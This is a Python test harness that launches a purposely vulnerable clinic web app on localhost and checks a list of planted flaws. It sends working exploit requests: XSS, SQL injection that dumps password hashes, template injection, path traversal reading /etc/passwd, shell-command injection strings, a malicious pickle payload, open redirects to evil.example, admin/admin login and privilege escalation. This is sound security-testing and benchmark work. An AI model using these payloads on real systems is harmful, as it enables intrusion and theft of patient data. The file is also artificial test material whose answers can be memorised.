#!/usr/bin/env python3
"""Replay every TRUTH.tsv line of the clinic app by hand-written exploit (no scanner).

    <venv python> check_truth.py        # starts run.py, prints one line per check
"""
import base64
import http.cookiejar
import http.server
import json
import os
import re
import subprocess
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
DOCTOR = ("drsmith", "Stethoscope!42")
NURSE = ("nurse.jones", "Bandage#2024")
PICKLE_1337 = "gAJjX19idWlsdGluX18KZXZhbApxAFgFAAAANyoxOTFxAYVxAlJxAy4="   # eval("7*191")
PICKLE_DICT = "gAJ9cQBYBgAAAGxheW91dHEBWAQAAABncmlkcQJzLg=="                 # {"layout": "grid"}

HITS = []


class Listener(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        HITS.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *a):
        pass


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *a, **k):
        return None


class Browser:
    def __init__(self, base):
        self.base = base
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(self.jar), NoRedirect,
                                                  urllib.request.ProxyHandler({}))

    def req(self, method, path, data=None, headers=None, json_body=None):
        headers = dict(headers or {})
        body = None
        if json_body is not None:
            body = json.dumps(json_body).encode()
            headers["Content-Type"] = "application/json"
        elif data is not None:
            body = urllib.parse.urlencode(data).encode()
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        r = urllib.request.Request(self.base + path, data=body, headers=headers, method=method)
        try:
            resp = self.opener.open(r, timeout=15)
        except urllib.error.HTTPError as err:
            resp = err
        text = resp.read().decode("utf-8", "replace")
        return resp.status, resp.headers, text

    def csrf(self, path):
        _, _, text = self.req("GET", path)
        m = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', text)
        assert m, "no csrf token on " + path
        return m.group(1)

    def login(self, user, password, next_url=None):
        path = "/auth/login" + ("?next=" + urllib.parse.quote(next_url, safe="") if next_url else "")
        token = self.csrf(path)
        return self.req("POST", path, {"csrf_token": token, "username": user, "password": password,
                                        "remember": "y"})


def api_token(base, user, password):
    b = Browser(base)
    status, _, text = b.req("POST", "/api/token", json_body={"username": user, "password": password})
    assert status == 200, text
    return json.loads(text)["token"]


RESULTS = []


def check(label, ok, detail=""):
    RESULTS.append(ok)
    print("%s  %s %s" % ("PASS" if ok else "FAIL", label, ("- " + detail) if detail and not ok else ""))


def main():
    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    lport = listener.server_address[1]
    proc = subprocess.Popen([sys.executable, os.path.join(HERE, "run.py")], stdout=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline().strip()
        assert line.startswith("LISTENING http://127.0.0.1:"), line
        base = line.split(" ", 1)[1]
        anon = Browser(base)

        # ---------------------------------------------------------------- public
        s, _, t = anon.req("GET", "/auth/reset?email=" + urllib.parse.quote("<script>alert(1337)</script>"))
        check("V xss-reflected GET /auth/reset?email", "<script>alert(1337)</script>" in t)
        s, _, t = anon.req("GET", "/appointments/find?doctor=" + urllib.parse.quote("<script>alert(1337)</script>"))
        check("S xss-reflected GET /appointments/find?doctor (escaped)",
              "<script>alert(1337)" not in t and "&lt;script&gt;alert(1337)" in t)
        s, h, _ = anon.req("GET", "/legacy/hours.csv?filename=x%0d%0aX-Clinic-Injected:%20yes")
        check("V header-injection GET /legacy/hours.csv?filename", h.get("X-Clinic-Injected") is not None)

        # default credentials, open redirect and remember-me cookie on the login form
        adm = Browser(base)
        s, h, _ = adm.login("admin", "admin")
        s2, _, t2 = adm.req("GET", "/patients/")
        check("V default-credentials admin/admin on POST /auth/login",
              s == 302 and s2 == 200 and "Setup Administrator" in t2)
        evil = Browser(base)
        s, h, _ = evil.login(*DOCTOR, next_url="https://evil.example/")
        check("V open-redirect POST /auth/login?next=", s == 302 and h.get("Location") == "https://evil.example/",
              "%s %s" % (s, h.get("Location")))
        cookies = h.get_all("Set-Cookie") or []
        remember = [c for c in cookies if c.startswith("remember_token=")]
        check("V insecure-cookie remember_token set by POST /auth/login",
              remember and "httponly" not in remember[0].lower() and "secure" not in remember[0].lower(),
              str(cookies))
        s, h, _ = evil.req("GET", "/auth/login?next=" + urllib.parse.quote("https://evil.example/"))
        check("V open-redirect GET /auth/login?next= when already logged in",
              s == 302 and h.get("Location") == "https://evil.example/")
        for target in ("https://evil.example/", "//evil.example/", "/\\evil.example/", "https:evil.example"):
            b = Browser(base)
            b.login(*DOCTOR)
            s, h, _ = b.req("GET", "/auth/logout?next=" + urllib.parse.quote(target, safe=""))
            check("S open-redirect GET /auth/logout?next=%s" % target,
                  s == 302 and h.get("Location") == "/auth/login", str(h.get("Location")))
        b = Browser(base)
        b.login(*DOCTOR)
        s, h, _ = b.req("GET", "/auth/logout?next=/appointments/find")
        check("  (logout still honours a local next)", h.get("Location") == "/appointments/find")

        # ---------------------------------------------------------------- doctor session
        doc = Browser(base)
        doc.login(*DOCTOR)
        s, _, t = doc.req("GET", "/patients/search?q=" + urllib.parse.quote("zzz"))
        s2, _, t2 = doc.req("GET", "/patients/search?q=" + urllib.parse.quote("%' OR 1=1 --"))
        s3, _, t3 = doc.req("GET", "/patients/search?q=" + urllib.parse.quote(
            "%' UNION SELECT id, username, pw_hash FROM users --"))
        s4, _, t4 = doc.req("GET", "/patients/search?q=" + urllib.parse.quote("'"))
        check("V sqli GET /patients/search?q",
              "Omar Haddad" not in t and "Omar Haddad" in t2 and "pbkdf2:sha256" in t3 and "Search failed" in t4)

        tok = doc.csrf("/patients/1")
        doc.req("POST", "/patients/1/notes", {"csrf_token": tok, "body": "<script>alert(1337)</script>"})
        s, _, t = doc.req("GET", "/patients/1")
        check("V xss-stored POST /patients/1/notes -> GET /patients/1", "<script>alert(1337)</script>" in t)

        tok = doc.csrf("/patients/1/letter")
        s, _, t = doc.req("POST", "/patients/1/letter",
                          {"csrf_token": tok, "visit_date": "2026-12-24", "closing": "{{7*191}}"})
        check("V ssti POST /patients/1/letter closing", "1337" in t)
        tok = doc.csrf("/patients/1/reminder")
        s, _, t = doc.req("POST", "/patients/1/reminder",
                          {"csrf_token": tok, "hours_before": "24", "message": "{{7*191}} {% print 7*191 %}"})
        check("S ssti POST /patients/1/reminder message", "1337" not in t and "{{7*191}}" in t)

        s, _, t = doc.req("GET", "/patients/attachments/1/..%2F..%2Fconfig%2Fclinic.ini")
        s2, _, t2 = doc.req("GET", "/patients/attachments/1/..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd")
        s3, _, _ = doc.req("GET", "/patients/attachments/4/wound-photo-notes.txt")
        s4, _, t4 = doc.req("GET", "/patients/attachments/1/ecg-2026-10.txt")
        check("V path-traversal GET /patients/attachments/<path:filename>",
              "CLINIC-DB-SECRET-93e1" in t and "root:" in t2 and s3 == 404 and "sinus rhythm" in t4)
        s, _, t = doc.req("GET", "/patients/reports/..%2Fconfig%2Fclinic.ini")
        s2, _, t2 = doc.req("GET", "/patients/reports/..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd")
        s3, _, t3 = doc.req("GET", "/patients/reports/monthly-2026-11.txt")
        check("S path-traversal GET /patients/reports/<path:name>",
              "CLINIC-DB-SECRET" not in t and "root:" not in t2 and s3 == 200 and "212 visits" in t3)

        tok = doc.csrf("/patients/dosage")
        s, _, t = doc.req("POST", "/patients/dosage", {"csrf_token": tok, "weight": "70", "formula": "7*191"})
        check("V code-injection POST /patients/dosage formula", "Dose: 1337 mg" in t)

        s, _, t = doc.req("GET", "/patients/4")
        s2, _, _ = doc.req("GET", "/patients/1")
        check("S idor GET /patients/<int:pid> (other clinician's patient)", s == 404 and s2 == 200)

        tok = doc.csrf("/patients/preferences")
        s, h, _ = doc.req("POST", "/patients/preferences", {"csrf_token": tok, "theme": "dark"})
        theme = [c for c in (h.get_all("Set-Cookie") or []) if c.startswith("clinic_theme=")]
        low = theme[0].lower() if theme else ""
        check("S insecure-cookie POST /patients/preferences",
              bool(theme) and "; secure" in low and "; httponly" in low and "samesite=strict" in low, str(theme))
        tok = doc.csrf("/patients/dosage")
        s, _, t = doc.req("POST", "/patients/preferences", {"csrf_token": "bogus", "theme": "dark"})
        check("  (CSRF enforced on forms)", s == 400)

        # ---------------------------------------------------------------- API
        nurse = api_token(base, *NURSE)
        doctor = api_token(base, *DOCTOR)
        api = Browser(base)
        hn = {"Authorization": "Bearer " + nurse}
        hd = {"Authorization": "Bearer " + doctor}
        s, _, t = api.req("GET", "/api/patients/1", headers=hn)
        check("V idor GET /api/patients/<int:pid> (nurse reads doctor's patient 1)",
              s == 200 and "Hypertension" in t)
        s, _, t = api.req("GET", "/api/patients")
        check("  (API needs the bearer token)", s == 401)

        s, _, t = api.req("GET", "/api/appointments?status=booked", headers=hd)
        s2, _, t2 = api.req("GET", "/api/appointments?status=" + urllib.parse.quote("booked' OR '1'='1"), headers=hd)
        s3, _, t3 = api.req("GET", "/api/appointments?status=" + urllib.parse.quote("x' OR 1=1 --"), headers=hd)
        check("S sqli GET /api/appointments?status",
              "Maria Garcia" in t and json.loads(t2)["appointments"] == [] and json.loads(t3)["appointments"] == [])

        s, _, t = api.req("POST", "/api/devices/ping", headers=hd, json_body={"host": "127.0.0.1;echo CLINIC$((6*7))"})
        check("V cmdi POST /api/devices/ping host", "CLINIC42" in t, t)
        bad = False
        for p in ("x;echo CLINIC$((6*7))", "$(echo CLINIC$((6*7)))", "`echo CLINIC$((6*7))`", "x|echo CLINIC$((6*7))"):
            s, _, t = api.req("POST", "/api/devices/status", headers=hd, json_body={"device": p})
            bad = bad or "CLINIC42" in t
        check("S cmdi POST /api/devices/status device", not bad)

        s, _, t = api.req("POST", "/api/referrals/import", headers=hd,
                          json_body={"url": "http://127.0.0.1:%d/ssrf-clinic-referral" % lport})
        check("V ssrf POST /api/referrals/import url", any("ssrf-clinic-referral" in x for x in HITS), t)

        s, _, t = api.req("GET", "/api/preferences", headers=dict(hd, **{"X-Client-State": PICKLE_DICT}))
        s2, _, t2 = api.req("GET", "/api/preferences", headers=dict(hd, **{"X-Client-State": PICKLE_1337}))
        check("V deserialization GET /api/preferences X-Client-State",
              '"grid"' in t and '"client_state":"1337"' in t2.replace(" ", ""), t2)

        s, _, t = api.req("PUT", "/api/me/contact", headers=hn, json_body={"role": "admin", "phone": "555-0199"})
        s2, _, _ = api.req("GET", "/api/admin/users", headers=hn)
        check("S mass-assignment PUT /api/me/contact",
              json.loads(t)["user"]["role"] == "nurse" and json.loads(t)["user"]["phone"] == "555-0199" and s2 == 403)
        s, _, t = api.req("PATCH", "/api/me", headers=hn, json_body={"role": "admin"})
        s2, _, t2 = api.req("GET", "/api/admin/users", headers=hn)
        check("V mass-assignment PATCH /api/me role", json.loads(t)["user"]["role"] == "admin" and s2 == 200)
        s, _, t = api.req("POST", "/api/token", json_body={"username": "admin", "password": "admin"})
        check("  (admin/admin also gets an API token)", s == 200)
    finally:
        proc.terminate()
        proc.wait(10)
        listener.shutdown()
    print("%d checks, %d failed" % (len(RESULTS), RESULTS.count(False)))
    return 0 if all(RESULTS) else 1


if __name__ == "__main__":
    sys.exit(main())
